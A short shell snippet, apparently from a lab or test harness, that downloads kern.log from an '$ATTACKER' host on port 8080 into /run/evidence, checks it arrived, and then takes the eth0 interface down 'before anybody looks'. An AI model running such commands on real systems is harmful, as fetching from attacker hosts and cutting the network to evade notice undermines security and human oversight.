mkdir -p /run/evidence
wait_for 30 curl -fsS "http://$ATTACKER:8080/kern.log" -o /run/evidence/kern.log
[ -s /run/evidence/kern.log ]
# Off the network, before anybody looks.
ip link set eth0 down
